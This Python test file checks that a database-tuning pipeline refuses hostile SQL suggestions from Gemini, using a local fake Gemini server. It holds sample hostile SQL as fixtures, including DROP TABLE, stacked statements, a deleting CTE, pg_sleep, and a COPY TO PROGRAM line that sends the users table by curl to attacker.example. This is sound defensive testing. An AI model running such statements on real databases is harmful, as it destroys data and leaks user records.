"""Gemini as a second opinion, never trusted blindly.

The real google-genai client talks HTTP to a local server that speaks Gemini's REST API
(fakes/gemini_server.py). Covered: the wire format (path, key header, JSON mode and response
schema), retries with backoff on 429/5xx and timeouts, clear errors for a refused key and for a
reply that is not JSON, token usage, "no key" said once, the resource reading the environment when
used. Then the hostile replies: DROP TABLE, several statements, a data-modifying CTE, comments
hiding a second statement, pg_sleep, COPY TO PROGRAM, set_config, an index on a column that does not
exist, a rewrite returning different rows. None of them runs, the demo database is unchanged, and
each refusal names its reason; the benign index becomes an IndexCandidate and is benchmarked like
the advisor's own. Also the doctests of the validators.
"""

from __future__ import annotations

import doctest
import importlib
import time

import dagster as dg
import psycopg
import pytest

from dbarch_pipeline.advisor.analyze import analyze
from dbarch_pipeline.advisor.catalog import Catalog
from dbarch_pipeline.bench.runner import BenchSettings, benchmark_statement
from dbarch_pipeline.db import connect
from dbarch_pipeline.llm import gemini as gemini_mod
from dbarch_pipeline.llm.gemini import (DEFAULT_MODEL, GeminiAuthError, GeminiBadReply, GeminiClient,
                                        GeminiResource, GeminiUnavailable, usage_metadata)
from dbarch_pipeline.llm.prompts import RECOMMEND_SCHEMA
from dbarch_pipeline.llm.second_opinion import (agrees, combined_confidence, gemini_ideas, table_context,
                                                verify_rewrites)
from dbarch_pipeline.models import IndexCandidate
from dbarch_pipeline.schema_guard import schema_digest

from .fakes.gemini_server import FakeGemini, Reply

QUERY = 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log WHERE user_id = $1 ORDER BY "timestamp" DESC LIMIT $2'
TABLES = ("users", "courses", "lessons", "user_progress", "behavior_log")
SCHEMA = {"type": "OBJECT", "properties": {"sql": {"type": "STRING"}}, "required": ["sql"]}


@pytest.fixture()
def fake():
    with FakeGemini() as server:
        yield server


def client_for(server: FakeGemini, **kwargs) -> GeminiClient:
    return GeminiClient("test-key", base_url=server.base_url, **{"backoff_s": 0.01, "timeout_s": 10, **kwargs})


# -- the client --------------------------------------------------------------------------------

def test_request_is_gemini_generate_content_in_json_mode(fake):
    fake.push_json({"sql": "SELECT 1"}, usage={"promptTokenCount": 120, "candidatesTokenCount": 8,
                                               "totalTokenCount": 128})
    reply, usage = client_for(fake).generate_json("a prompt", SCHEMA, system="be brief")
    assert reply == {"sql": "SELECT 1"}
    request = fake.requests[0]
    assert request.path == f"/v1beta/models/{DEFAULT_MODEL}:generateContent"
    assert request.headers["x-goog-api-key"] == "test-key"
    assert request.prompt == "a prompt" and request.system == "be brief"
    config = request.generation_config
    assert config["responseMimeType"] == "application/json"
    assert config["responseSchema"]["properties"]["sql"]["type"] == "STRING"
    assert usage["prompt_tokens"] == 120 and usage["output_tokens"] == 8 and usage["total_tokens"] == 128
    assert usage_metadata(usage)["gemini/total_tokens"] == 128


def test_retries_on_429_and_5xx_then_succeeds(fake):
    fake.push_error(429, "Resource has been exhausted (e.g. check quota).").push_error(503)
    fake.push_json({"sql": "SELECT 2"})
    client = client_for(fake)
    reply, usage = client.generate_json("p", SCHEMA)
    assert reply == {"sql": "SELECT 2"}
    assert (usage["attempts"], usage["retries"]) == (3, 2)
    assert len(fake.requests) == 3
    assert client.usage.retries == 2


def test_a_timeout_is_retried(fake):
    fake.push_json({"sql": "too late"}, delay_s=1.5).push_json({"sql": "SELECT 3"})
    reply, usage = client_for(fake, timeout_s=0.5).generate_json("p", SCHEMA)
    assert reply == {"sql": "SELECT 3"} and usage["retries"] == 1


def test_retries_are_bounded_and_the_error_says_what_happened(fake):
    for _ in range(3):
        fake.push_error(500)
    with pytest.raises(GeminiUnavailable) as err:
        client_for(fake, max_retries=2).generate_json("p", SCHEMA)
    assert "after 3 attempts: 500 INTERNAL" in err.value.problem
    assert "429" in err.value.fix and len(fake.requests) == 3


@pytest.mark.parametrize("status", [401, 403])
def test_a_refused_key_is_a_clear_error_without_retries(fake, status):
    fake.push_error(status, "API key expired")
    with pytest.raises(GeminiAuthError) as err:
        client_for(fake).generate_json("p", SCHEMA)
    assert "refused the API key" in err.value.problem and "GEMINI_API_KEY" in err.value.fix
    assert len(fake.requests) == 1


def test_a_wrong_key_as_google_reports_it(fake):
    """Google answers a wrong key with 400 API_KEY_INVALID, not 401."""
    fake.api_key = "the-right-key"
    with pytest.raises(GeminiAuthError) as err:
        client_for(fake).generate_json("p", SCHEMA)
    assert "API key not valid" in err.value.problem


def test_a_reply_that_is_not_json_is_a_clear_error(fake):
    fake.push_text("Sure! Here is your index: CREATE INDEX ...")
    with pytest.raises(GeminiBadReply) as err:
        client_for(fake).generate_json("p", SCHEMA)
    assert "not valid JSON" in err.value.problem and "GEMINI_MODEL" in err.value.fix
    fake.push_text('{"sql": "SELECT', finish_reason="MAX_TOKENS")
    with pytest.raises(GeminiBadReply, match="cut at the output token limit"):
        client_for(fake).generate_json("p", SCHEMA)


# -- the resource --------------------------------------------------------------------------------

def test_without_a_key_gemini_is_off_and_says_so_once(monkeypatch):
    monkeypatch.delenv("GEMINI_API_KEY", raising=False)
    gemini_mod.reset_off_notice()
    said: list[str] = []
    resource = GeminiResource()
    assert resource.client(say=said.append) is None
    assert GeminiResource().client(say=said.append) is None
    assert len(said) == 1
    assert "Gemini is off: GEMINI_API_KEY is not set" in said[0] and "still works" in said[0]
    gemini_mod.reset_off_notice()


def test_resource_reads_the_environment_when_used(fake, monkeypatch):
    resource = GeminiResource(backoff_s=0.01)           # built before the environment is set
    monkeypatch.setenv("GEMINI_API_KEY", "env-key")
    monkeypatch.setenv("GEMINI_BASE_URL", fake.base_url)
    monkeypatch.setenv("GEMINI_MODEL", "gemini-2.5-flash-lite")
    fake.push_json({"sql": "SELECT 4"})
    client = resource.client()
    assert client is not None
    assert client.generate_json("p", SCHEMA)[0] == {"sql": "SELECT 4"}
    assert fake.requests[0].path == "/v1beta/models/gemini-2.5-flash-lite:generateContent"
    assert fake.requests[0].headers["x-goog-api-key"] == "env-key"


def test_token_usage_reaches_asset_metadata(fake):
    """The resource inside a Dagster run: usage becomes numeric materialization metadata."""

    @dg.asset
    def opinion(gemini: GeminiResource) -> dg.MaterializeResult:
        _reply, usage = gemini.client().generate_json("p", SCHEMA)
        return dg.MaterializeResult(metadata=usage_metadata(usage))

    fake.push_error(429).push_json({"sql": "SELECT 5"}, usage={"promptTokenCount": 50, "candidatesTokenCount": 5,
                                                                "totalTokenCount": 55})
    result = dg.materialize([opinion], resources={
        "gemini": GeminiResource(api_key="k", base_url=fake.base_url, backoff_s=0.01)})
    metadata = result.asset_materializations_for_node("opinion")[0].metadata
    assert metadata["gemini/total_tokens"].value == 55
    assert metadata["gemini/retries"].value == 1


# -- hostile replies: none of them runs -------------------------------------------------------------

def _state(conn: psycopg.Connection) -> tuple[str, dict[str, int]]:
    counts = {t: conn.execute(psycopg.sql.SQL("SELECT count(*) FROM {}").format(psycopg.sql.Identifier(t))
                              ).fetchone()[0] for t in TABLES}
    return schema_digest(conn), counts


HOSTILE = [
    # (kind, sql, words the refusal must contain)
    ("index", "DROP TABLE users", "DROP TABLE is not a CREATE INDEX"),
    ("index", "CREATE INDEX ON behavior_log (user_id); DROP TABLE users", "several statements (2)"),
    ("rewrite", QUERY + "; DROP TABLE behavior_log", "several statements (2)"),
    ("rewrite", 'WITH gone AS (DELETE FROM behavior_log WHERE user_id = $1 RETURNING *) '
                'SELECT id, event_type, metadata, "timestamp" FROM gone ORDER BY "timestamp" DESC LIMIT $2',
     "DELETE inside WITH (a data-modifying CTE)"),
    ("rewrite", 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log -- fast path; DROP TABLE users\n'
                'WHERE user_id = $1 ORDER BY "timestamp" DESC LIMIT $2', "comment contains ';'"),
    ("rewrite", 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log /* a /* nested */ ; '
                'DROP TABLE users; */ WHERE user_id = $1 ORDER BY "timestamp" DESC LIMIT $2', "comment contains ';'"),
    ("rewrite", 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log WHERE user_id = $1 '
                'AND pg_sleep(30) IS NOT NULL ORDER BY "timestamp" DESC LIMIT $2', "calls pg_sleep()"),
    ("rewrite", "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://attacker.example'",
     "COPY is not a SELECT"),
    ("rewrite", "SELECT id, event_type, metadata, \"timestamp\", set_config('statement_timeout', '0', false) "
                'FROM behavior_log WHERE user_id = $1 ORDER BY "timestamp" DESC LIMIT $2', "calls set_config()"),
    ("index", "CREATE INDEX ON behavior_log (user_id, session_id)",
     "column session_id does not exist in public.behavior_log"),
    ("index", "CREATE UNIQUE INDEX ON users (country)", "UNIQUE index adds a constraint"),
    ("rewrite", 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log WHERE user_id = $1 '
                'ORDER BY "timestamp" DESC LIMIT 10', "uses parameters $1 but the query uses $1, $2"),
]
BENIGN_INDEX = 'CREATE INDEX CONCURRENTLY IF NOT EXISTS bl_user_ts ON public.behavior_log (user_id, "timestamp" DESC)'
SAME_ROWS = ('SELECT b.id, b.event_type, b.metadata, b."timestamp" FROM behavior_log AS b '
             'WHERE b.user_id = $1 ORDER BY b."timestamp" DESC LIMIT $2')
DIFFERENT_ROWS = ('SELECT id, event_type, metadata, "timestamp" FROM behavior_log WHERE user_id = $1 '
                  "AND event_type = 'page_view' ORDER BY \"timestamp\" DESC LIMIT $2")


def test_hostile_replies_never_run_and_each_refusal_names_its_reason(fake, demo_target):
    ideas = [{"kind": k, "sql": s, "rationale": "trust me, this is safe"} for k, s, _ in HOSTILE]
    ideas += [{"kind": "index", "sql": BENIGN_INDEX, "rationale": "equality then order"},
              {"kind": "rewrite", "sql": SAME_ROWS, "rationale": "aliases"},
              {"kind": "rewrite", "sql": DIFFERENT_ROWS, "rationale": "smaller result, much faster"}]
    fake.push_json({"recommendations": ideas})
    advisor = IndexCandidate("public", "behavior_log", ("user_id", "timestamp"), "equality, then ORDER BY")
    with connect(demo_target, "sandbox") as conn:
        before = _state(conn)
        started = time.perf_counter()
        result = gemini_ideas(
            client_for(fake), query=QUERY, plan={"Node Type": "Limit", "Plans": [{"Node Type": "Seq Scan"}]},
            tables=table_context(conn, ["behavior_log"]), candidates=[advisor.label()],
            similar=[{"query_text": "SELECT * FROM orders WHERE user_id = $1", "ddl": "CREATE INDEX ON orders (user_id)",
                      "performance_gain": 97.5, "confidence": 0.9, "similarity": 0.71}],
            conn=conn, advisor_candidates=[advisor], max_ideas=len(ideas))
        proof = verify_rewrites(conn, QUERY, result["accepted_rewrites"])
        elapsed = time.perf_counter() - started
        after = _state(conn)

    assert after == before, "a hostile reply changed the database"
    assert elapsed < 10, "pg_sleep ran"
    reasons = {r["sql"]: r["reason"] for r in result["rejected"]}
    for _kind, sql_text, words in HOSTILE:
        assert sql_text in reasons, f"not refused: {sql_text}"
        assert words in reasons[sql_text], (sql_text, reasons[sql_text])

    # the benign index is ours now: an IndexCandidate, the advisor's twin, rendered by psycopg.sql
    [index] = result["accepted_indexes"]
    assert (index.table, index.columns, index.method) == ("behavior_log", ("user_id", "timestamp"), "btree")
    assert agrees(index, advisor) and result["agrees_with_advisor"] == [index.label()]
    # a rewrite is accepted only once it returns the same rows as the query, in the same order
    assert result["accepted_rewrites"] == [SAME_ROWS, DIFFERENT_ROWS]
    assert proof["accepted"] == [SAME_ROWS]
    [refused] = proof["rejected"]
    assert refused["sql"] == DIFFERENT_ROWS and "returns different rows" in refused["reason"]
    assert proof["param_sets"], "parameter values were sampled from the data"
    assert result["usage"]["total_tokens"] > 0

    # the prompt carried the RAG context: query, plan, table definition and stats, candidates, past gains
    prompt = fake.requests[0].prompt
    for part in (QUERY, "Seq Scan", "CREATE TABLE public.behavior_log (", "column statistics",
                 advisor.label(), "measured gain: 97.5%"):
        assert part in prompt, part


def test_an_accepted_idea_goes_through_the_same_benchmark(demo_target):
    """Gemini's index is measured like the advisor's; confidence comes from the clock, and rises
    only when both agree and the clock confirms."""
    from dbarch_pipeline.llm.validate import validate_index

    with connect(demo_target, "sandbox") as conn:
        before = schema_digest(conn)
        cand = validate_index(BENIGN_INDEX, conn)
        assert isinstance(cand, IndexCandidate)
        [row] = benchmark_statement(conn, QUERY, analyze(QUERY), [cand], Catalog(conn),
                                    BenchSettings(runs=2, param_sets=2, warmup=1))
        assert schema_digest(conn) == before
    assert row["status"] == "measured" and row["evidence"]["index_used"]
    assert row["measured_gain_pct"] > 10
    confirmed = combined_confidence(row["confidence"], gemini_agrees=True, clock_confirms=True)
    assert row["confidence"] <= confirmed <= 1.0
    assert combined_confidence(row["confidence"], gemini_agrees=True, clock_confirms=False) == row["confidence"]
    assert combined_confidence(None, gemini_agrees=True, clock_confirms=True) == 0.0


def test_second_opinion_carries_on_without_gemini(fake, demo_target):
    with connect(demo_target, "sandbox") as conn:
        off = gemini_ideas(None, query=QUERY, plan=None, tables=[], candidates=[], similar=[], conn=conn)
        assert off["accepted_indexes"] == [] and "off" in off["error"]
        for _ in range(4):
            fake.push_error(503)
        flaky = gemini_ideas(client_for(fake, max_retries=1), query=QUERY, plan=None, tables=[], candidates=[],
                             similar=[], conn=conn)
        assert "still failed after 2 attempts" in flaky["error"]
        fake.push_error(401)
        with pytest.raises(GeminiAuthError):
            gemini_ideas(client_for(fake), query=QUERY, plan=None, tables=[], candidates=[], similar=[], conn=conn)


def test_ideas_beyond_the_limit_are_not_considered(fake, demo_target):
    ideas = [{"kind": "index", "sql": f"CREATE INDEX ON behavior_log ({c})", "rationale": ""}
             for c in ("user_id", "event_type", "metadata", "timestamp")]
    fake.push_json({"recommendations": ideas})
    with connect(demo_target, "sandbox") as conn:
        result = gemini_ideas(client_for(fake), query=QUERY, plan=None, tables=[], candidates=[], similar=[],
                              conn=conn, max_ideas=2)
    assert [c.columns for c in result["accepted_indexes"]] == [("user_id",), ("event_type",)]
    assert [r["reason"] for r in result["rejected"]] == ["beyond the 2 ideas asked for"] * 2
    assert RECOMMEND_SCHEMA["properties"]["recommendations"]["items"]["properties"]["kind"]["enum"] == ["index", "rewrite"]


def test_fake_server_answers_like_gemini_for_unscripted_requests(fake):
    """With nothing scripted the fake answers 500, as a broken upstream would: the client retries
    and then says so, it never invents a reply."""
    fake.handler = None
    with pytest.raises(GeminiUnavailable):
        client_for(fake, max_retries=1).generate_json("p", SCHEMA)
    fake.handler = lambda body: Reply(text='{"sql": "SELECT 6"}')
    assert client_for(fake).generate_json("p", SCHEMA)[0] == {"sql": "SELECT 6"}


@pytest.mark.parametrize("module", ["dbarch_pipeline.llm.validate", "dbarch_pipeline.llm.second_opinion",
                                    "dbarch_pipeline.ask.corpus"])
def test_doctests(module):
    result = doctest.testmod(importlib.import_module(module))
    assert result.attempted > 0 and result.failed == 0
